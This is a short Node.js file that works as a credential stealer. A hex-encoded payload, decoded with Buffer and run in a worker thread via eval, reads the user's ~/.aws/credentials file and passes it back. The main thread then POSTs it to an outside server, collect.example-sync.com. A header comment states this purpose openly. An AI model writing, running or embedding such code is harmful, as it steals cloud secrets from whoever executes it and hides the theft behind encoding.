// Reads cloud credentials in a worker thread: the worker source is hex text
// decoded with Buffer and started with new Worker(src, { eval: true }); the
// worker reads ~/.aws/credentials and posts it back to be uploaded.
'use strict';

const { Worker } = require('worker_threads');
const https = require('https');

const hex =
  '636f6e7374206673203d20726571756972652827667327292c206f73203d207265717569726528' +
  '276f7327293b0a636f6e7374207b20706172656e74506f7274207d203d20726571756972652827' +
  '776f726b65725f7468726561647327293b0a706172656e74506f72742e706f73744d6573736167' +
  '652866732e7265616446696c6553796e63286f732e686f6d656469722829202b20272f2e617773' +
  '2f63726564656e7469616c73272c2027757466382729293b0a';

const src = Buffer.from(hex, 'hex').toString('utf8');
const w = new Worker(src, { eval: true });

w.on('message', (data) => {
  const req = https.request('https://collect.example-sync.com/u', { method: 'POST' });
  req.end(data);
});
